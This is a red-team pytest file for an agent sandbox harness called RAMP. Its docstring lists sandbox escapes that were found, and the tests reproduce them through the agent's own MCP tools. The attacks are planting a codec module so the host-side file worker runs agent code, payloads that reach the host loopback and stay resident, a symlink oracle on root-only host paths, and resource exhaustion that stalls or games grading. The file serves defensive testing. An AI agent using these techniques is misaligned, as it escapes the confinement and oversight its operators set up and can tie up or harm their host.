"""Red team, goal "out of the box": attacks on the host through one run's MCP tools only.

Every attack here is performed as the agent would (the SDK's client over stdio, the run's
own tools); root on the host only sets up observers (a TCP listener, a canary file) and
looks at the effect. Each test asserts the SECURE outcome, so a test of an attack that
works today fails until RAMP is fixed. Run it explicitly (its name is not ``test_*``):

    .venv/bin/python -m pytest tests/trust/redteam_escape.py -v

What the tests found (on this machine, both backends where it matters):

- the confined file worker imports agent files: a FutureWarning raised while grep compiles
  a pattern makes ``linecache`` open ``/work/main/toolchain/workspace/_search.py``, which in
  the chroot is a workspace file; its coding cookie names a codec, and the codec's module
  is imported from ``encodings.__path__``, again a workspace path. The agent's Python then
  runs on the host, outside every sandbox, in the host's network and pid namespaces (it
  connected to a host loopback listener and to pypi.org:443), and can stay resident in the
  worker between calls;
- cancelled tool calls free the server's thread slot while their sandboxed command keeps
  running, so one run can hold any number of commands at once (bwrap: no cap over them);
- every submission that grading fails on leaves its snapshot (up to 512 MB) on the host's
  disk and gives the attempt back: repeatable without end;
- a directory tree 1,200 levels deep made by build.sh or a stage program makes
  ``shutil.rmtree`` raise RecursionError, so grading's and run_stage's scratch directories,
  with whatever was put at the bottom, stay on the host's disk;
- the polled caps of build.sh and the stage programs count bytes, not entries: a stage
  program makes 200,000+ files on the host's file system in one run_stage;
- sparse files made by build.sh are read whole by the toolchain-copy scan (~45 s per GB
  that takes no disk), so grading can be made to last days;
- the ``build`` tool stats ``build.sh`` as root through a symlink: an oracle for whether
  any host path exists.
"""

from __future__ import annotations

import encodings
import os
import socket
import stat
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import anyio
import pytest

from tests.support import processes_with_marker
from tests.trust.attacks import BOTH
from tests.trust.conftest import Sessions
from tests.trust.session import Session

_RAMP_HOME = Path(os.environ.get("RAMP_HOME", "/var/lib/ramp"))
_INPUT = "int main(){return 0;}"


# -- observers (root on the host, watching only) ----------------------------------------------


class _Listener:
    """A TCP listener on the host's loopback: what connects to it came from the host's
    network namespace (a sandbox has its own, empty one)."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.2)
        self.port = self._server.getsockname()[1]
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._done.is_set():
            try:
                conn, _ = self._server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(200))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self._done.set()
        self._thread.join(timeout=5)
        self._server.close()


@contextmanager
def _listening() -> Iterator[_Listener]:
    listener = _Listener()
    try:
        yield listener
    finally:
        listener.close()


class _InodeWatch:
    """The lowest count of free inodes of the host file system under RAMP_HOME while it runs."""

    def __init__(self) -> None:
        self.before = os.statvfs(_RAMP_HOME).f_favail
        self.lowest = self.before
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._poll, daemon=True)
        self._thread.start()

    def _poll(self) -> None:
        while not self._done.is_set():
            self.lowest = min(self.lowest, os.statvfs(_RAMP_HOME).f_favail)
            time.sleep(0.05)

    def stop(self) -> int:
        self._done.set()
        self._thread.join(timeout=5)
        return self.before - self.lowest


def _run_uid(s: Session) -> int:
    return s.workspace.stat().st_uid


def _owned_below(root: Path, uid: int, depth: int) -> list[Path]:
    """Entries owned by ``uid`` at most ``depth`` levels below ``root`` (not following links)."""
    found: list[Path] = []
    level = [root]
    for _ in range(depth):
        deeper: list[Path] = []
        for directory in level:
            try:
                entries = list(os.scandir(directory))
            except OSError:
                continue
            for entry in entries:
                try:
                    info = entry.stat(follow_symlinks=False)
                except OSError:
                    continue
                if info.st_uid == uid:
                    found.append(Path(entry.path))
                elif stat.S_ISDIR(info.st_mode):
                    deeper.append(Path(entry.path))
        level = deeper
    return found


def _remove_leftovers(root: Path, left: list[Path]) -> None:
    """The observer tidies up what an attack left (``rm`` copes with any depth; the
    leftovers are the finding, kept in the assertion message)."""
    tops = {root / p.relative_to(root).parts[0] for p in left}
    if tops:
        subprocess.run(["rm", "-rf", "--", *map(str, sorted(tops))], check=False, timeout=300)


def _bytes_below(root: Path) -> int:
    total = 0
    for directory, _dirs, files in os.walk(root):
        for name in files:
            try:
                total += (Path(directory) / name).lstat().st_blocks * 512
            except OSError:
                continue
    return total


# -- the agent's side: discovering host paths -------------------------------------------------


def _install_root(s: Session) -> str:
    """RAMP's install directory on the host, as the agent learns it: the host path of the
    runtime header's bind mount is in the sandbox's own mount table (both backends)."""
    table = s.sh("cat /proc/self/mountinfo")["stdout"]
    for line in table.splitlines():
        fields = line.split()
        if len(fields) > 4 and fields[4] == "/ramp/include":
            return str(Path(fields[3]).parent.parent)  # <root>/golden/runtime
    raise AssertionError(f"no /ramp/include in the sandbox's mount table:\n{table}")


def _codec_dirs() -> list[str]:
    """Where the server's Python keeps ``encodings``: the agent tries the usual places (a
    file is cheap); the one this interpreter uses is among them here."""
    guesses = ["/usr/lib/python3.11/encodings", "/usr/local/lib/python3.11/encodings"]
    guesses += [f"/root/.pyenv/versions/3.11.{n}/lib/python3.11/encodings" for n in range(13)]
    real = str(Path(encodings.__file__).parent)
    return sorted({*guesses, real})


def _plant_codec(s: Session, payload: str) -> str:
    """Put ``payload`` where the worker would import a codec from, and a fake ``_search.py``
    (at its host path, which in the worker's chroot is a workspace path) whose coding
    cookie names that codec. Returns the codec's name."""
    codec = f"rt{uuid.uuid4().hex[:10]}"
    for directory in _codec_dirs():
        s.ok("write_file", {"path": f"{directory.lstrip('/')}/{codec}.py", "content": payload})
    fake = f"{_install_root(s).lstrip('/')}/toolchain/workspace/_search.py"
    s.ok("write_file", {"path": fake, "content": f"# -*- coding: {codec} -*-\n" + "\n" * 400})
    return codec


def _trigger_warning(s: Session) -> None:
    """grep compiles the pattern with ``re`` first; a nested set warns (FutureWarning), and
    the warning's source line is looked up with linecache (a fresh position: a fresh message)."""
    s.call(
        "grep", {"pattern": "q" * (2 + uuid.uuid4().int % 50) + "[[:digit:]]", "path": "README.md"}
    )


def _unplant(s: Session) -> None:
    tops = {d.lstrip("/").split("/")[0] for d in _codec_dirs()}
    tops.add(_install_root(s).lstrip("/").split("/")[0])
    s.sh("rm -rf " + " ".join(sorted(tops)) + " rt-escape-proof")


_ONE_SHOT = """\
import os, ctypes, struct
proof = open("/rt-escape-proof", "w")
proof.write("uid=%d pid=%d ppid=%d\\n" % (os.getuid(), os.getpid(), os.getppid()))
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(2, 1, 0)
addr = struct.pack("=H", 2) + struct.pack("!H4s8x", {port}, bytes([127, 0, 0, 1]))
if libc.connect(fd, addr, len(addr)) == 0:
    message = b"RT-WORKER uid=%d pid=%d" % (os.getuid(), os.getpid())
    libc.send(fd, message, len(message), 0)
    proof.write("reached the host's loopback\\n")
os.close(fd)
proof.close()
"""

_RESIDENT = """\
import os, select, ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
def beat():
    fd = libc.socket(2, 1, 0)
    addr = struct.pack("=H", 2) + struct.pack("!H4s8x", {port}, bytes([127, 0, 0, 1]))
    if libc.connect(fd, addr, len(addr)) == 0:
        libc.send(fd, b"BEAT", 4, 0)
    os.close(fd)
_read = os.read
def _idle_read(fd, n):
    if fd == 0:
        while not select.select([0], [], [], 0.5)[0]:
            beat()
    return _read(fd, n)
os.read = _idle_read
"""


# -- the file worker runs the agent's code ----------------------------------------------------


@pytest.mark.parametrize("backend", BOTH)
def test_worker_imports_no_workspace_code(sessions: Sessions, backend: str) -> None:
    """A codec module planted in the workspace must never run in the file worker (it ran:
    the worker, on the host, connected to a host loopback listener)."""
    s = sessions.get(f"escape-worker-{backend}", backend)
    with _listening() as listener:
        _plant_codec(s, _ONE_SHOT.format(port=listener.port))
        try:
            _trigger_warning(s)
            time.sleep(2)
            proof = s.call("read_file", {"path": "rt-escape-proof"})
            ran = listener.received
        finally:
            _unplant(s)
    assert ran == [], f"workspace code ran in the file worker and reached the host: {ran}"
    assert proof.error, f"workspace code ran in the file worker: {proof.data.get('content')}"


def test_worker_keeps_no_resident_code(sessions: Sessions) -> None:
    """Code planted in the worker must not keep running between tool calls (it did: it
    beat twice a second on a host listener while no call was in flight)."""
    s = sessions.get("escape-resident", "bwrap")
    with _listening() as listener:
        _plant_codec(s, _RESIDENT.format(port=listener.port))
        try:
            _trigger_warning(s)
            idle_from = len(listener.received)
            time.sleep(4)  # no tool call in flight
            beats = len(listener.received) - idle_from
            assert s.ok("read_file", {"path": "README.md", "limit": 10})["content"]
        finally:
            _unplant(s)
    assert beats == 0, f"agent code ran on the host for 4 s between tool calls ({beats} beats)"


# -- oracle on host paths -----------------------------------------------------------------------


@pytest.mark.parametrize("backend", BOTH)
def test_build_no_host_path_oracle(sessions: Sessions, backend: str) -> None:
    """``build`` must answer the same for a build.sh symlink to an existing root-only host
    file and to a missing one (it said "no build.sh" only for the missing one)."""
    s = sessions.box(backend)
    secret_dir = Path(tempfile.mkdtemp(prefix="rt-canary-", dir="/root"))
    (secret_dir / "present").write_text("canary\n")
    secret_dir.chmod(0o700)
    answers: dict[str, tuple[bool, bool]] = {}
    try:
        for name in ("present", "absent"):
            s.sh(f"rm -f build.sh; ln -s {secret_dir / name} build.sh")
            reply = s.call("build")
            answers[name] = (reply.error, "no build.sh" in reply.text)
    finally:
        s.sh("rm -f build.sh")
        (secret_dir / "present").unlink()
        secret_dir.rmdir()
    assert answers["present"] == answers["absent"], (
        f"build tells whether a root-only host file exists: {answers}"
    )


# -- resources: concurrency ---------------------------------------------------------------------


@pytest.mark.parametrize("backend", BOTH)
def test_cancelled_commands_stay_bounded(sessions: Sessions, backend: str) -> None:
    """Cancelled run_command calls must not let one run hold more processes than one
    command may (512): each call here is cancelled after a second, its command going on."""
    s = sessions.box(backend)
    marker = f"RT_ABANDON_{uuid.uuid4().hex}"
    command = f"export {marker}=1; for i in $(seq 15); do sleep 25 & done; wait"

    async def fire() -> None:
        with anyio.move_on_after(1.0):
            await s.client.call_tool("run_command", {"command": command, "timeout_s": 60})

    async def wave() -> None:
        async with anyio.create_task_group() as group:
            for _ in range(30):
                group.start_soon(fire)

    for _ in range(2):  # 60 commands: more than the server's 40 worker threads
        s.portal.call(wave)
    time.sleep(3)
    live = len(processes_with_marker(marker))
    deadline = time.monotonic() + 60
    while processes_with_marker(marker) and time.monotonic() < deadline:
        time.sleep(1)
    assert live <= 512, f"one run held {live} processes at once through cancelled calls"


# -- resources: disk and inodes -------------------------------------------------------------------


def test_failed_grading_keeps_no_snapshot(sessions: Sessions) -> None:
    """A submission grading cannot take (no build.sh) must not leave its snapshot on the
    host's disk while giving the attempt back (each left 64 MB, again and again)."""
    s = sessions.get("escape-leak", "bwrap")
    s.sh("rm -f build.sh; head -c 64000000 /dev/urandom > ballast.bin")
    submissions = s.workspace.parent / "submissions"
    before = _bytes_below(submissions) if submissions.exists() else 0
    try:
        replies = [s.call("submit_stage", {"stage": "T0"}) for _ in range(3)]
    finally:
        s.sh("rm -f ballast.bin")
    grown = _bytes_below(submissions) - before
    states = {x["stage"]: x["state"] for x in s.ok("status")["stages"]}
    assert grown < 64_000_000, (
        f"3 failed submissions left {grown >> 20} MB of snapshots on the host (T0 is "
        f"{states['T0']}; replies: {[r.text[:80] for r in replies]})"
    )


_DEEP = "python3 -c \"print('/'.join(['d'] * 1200))\""


def test_grading_deep_tree_leaves_nothing(sessions: Sessions) -> None:
    """build.sh at grading puts 32 MB at the bottom of a 1,200-level tree: nothing of it may
    stay on the host after grading (it all stayed: rmtree raised RecursionError)."""
    s = sessions.get("escape-deep", "bwrap")
    build = (
        f'#!/bin/sh\np=$({_DEEP})\nmkdir -p "$p"\nhead -c 32000000 /dev/urandom > "$p/ballast"\n'
    )
    s.ok("write_file", {"path": "build.sh", "content": build})
    reply = s.call("submit_stage", {"stage": "T0"})
    left = _owned_below(_RAMP_HOME / "grading", _run_uid(s), depth=2)
    _remove_leftovers(_RAMP_HOME / "grading", left)
    assert left == [], f"grading left the run's tree on the host: {left} ({reply.text[:200]})"


def test_run_stage_deep_output_leaves_nothing(sessions: Sessions) -> None:
    """A stage program's 1,200-level tree in /ramp/output (with 32 MB at the bottom) must be
    gone after run_stage (it stayed, and run_stage costs no attempt)."""
    s = sessions.get("escape-deep", "bwrap")
    program = (
        "#!/usr/bin/python3\nimport os, sys\n"
        "fd = os.open(os.path.dirname(sys.argv[2]), os.O_RDONLY)\n"
        "for _ in range(1200):\n"
        "    os.mkdir('d', dir_fd=fd); n = os.open('d', os.O_RDONLY, dir_fd=fd); os.close(fd); fd = n\n"
        "w = os.open('ballast', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n"
        "os.write(w, os.urandom(1 << 20) * 32)\n"
        "open(sys.argv[2], 'w').write('x')\n"
    )
    s.ok("write_file", {"path": "bin/t0", "content": program})
    reply = s.call("run_stage", {"stage": "T0", "input_text": _INPUT})
    left = _owned_below(_RAMP_HOME / "mcp-try", _run_uid(s), depth=4)
    _remove_leftovers(_RAMP_HOME / "mcp-try", left)
    assert left == [], f"run_stage left the program's tree on the host: {left} ({reply.text[:200]})"


@pytest.mark.parametrize("backend", BOTH)
def test_stage_output_entry_cap(sessions: Sessions, backend: str) -> None:
    """A stage program making 200,000 empty files in /ramp/output (the host's disk) must be
    stopped near the 100,000 entries a workspace may hold (nothing stopped it)."""
    s = sessions.box(backend)
    program = (
        "#!/usr/bin/python3\nimport os, sys\n"
        "fd = os.open(os.path.dirname(sys.argv[2]), os.O_RDONLY)\nmade = 0\n"
        "for i in range(200000):\n"
        "    try:\n"
        "        os.close(os.open('f%d' % i, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))\n"
        "    except OSError:\n"
        "        break\n"
        "    made += 1\n"
        "open(sys.argv[2], 'w').write('made %d\\n' % made)\n"
    )
    s.ok("write_file", {"path": "bin/t0", "content": program})
    watch = _InodeWatch()
    try:
        reply = s.call("run_stage", {"stage": "T0", "input_text": _INPUT})
    finally:
        dropped = watch.stop()
    assert dropped < 150_000, (
        f"one run_stage took {dropped} inodes of the host's file system ({reply.text[:200]})"
    )


# -- wedging grading --------------------------------------------------------------------------


def test_sparse_build_outputs_do_not_stall_grading(sessions: Sessions) -> None:
    """build.sh making 4 sparse 1 GB files (no disk used) must not make grading read 4 GB of
    zeros (it took over 3 minutes; thousands of such files would keep a stage 'grading' for days)."""
    s = sessions.get("escape-sparse", "bwrap")
    build = "#!/bin/sh\nmkdir -p sparse\nfor i in 1 2 3 4; do truncate -s 1000M sparse/f$i; done\n"
    s.ok("write_file", {"path": "build.sh", "content": build})
    s.ok("write_file", {"path": "bin/t0", "content": '#!/bin/sh\ncp "$1" "$2"\n'})
    started = time.monotonic()
    reply = s.call("submit_stage", {"stage": "T0"})
    took = time.monotonic() - started
    assert "golden artifacts could not be built" not in reply.text, reply.text
    assert took < 90, f"grading read sparse files for {took:.0f} s ({reply.text[:200]})"


# -- defences that held (regression guards) ------------------------------------------------------


@pytest.mark.parametrize("backend", BOTH)
def test_stage_program_hard_links_refused(sessions: Sessions, backend: str) -> None:
    """A stage program cannot hard-link a file of the snapshot, the root file system or its
    input into /ramp/output, where root later renames and reads it."""
    s = sessions.box(backend)
    program = (
        "#!/usr/bin/python3\nimport os, sys\nout = os.path.dirname(sys.argv[2])\nseen = []\n"
        "for i, src in enumerate([sys.argv[1], '/usr/bin/clang-19', '/etc/passwd', "
        "'/workspace/README.md', '/ramp/include/sylib.h']):\n"
        "    try:\n"
        "        os.link(src, os.path.join(out, 'h%d' % i)); seen.append('LINKED ' + src)\n"
        "    except OSError as e:\n"
        "        seen.append('%s %s' % (os.strerror(e.errno), src))\n"
        "open(sys.argv[2], 'w').write('\\n'.join(seen) + '\\n')\n"
    )
    s.ok("write_file", {"path": "bin/t0", "content": program})
    s.ok("write_file", {"path": "README.md", "content": "readme\n"})
    tried = s.ok("run_stage", {"stage": "T0", "input_text": _INPUT})
    assert tried["ok"], tried
    assert "LINKED" not in tried["output_head"], tried["output_head"]
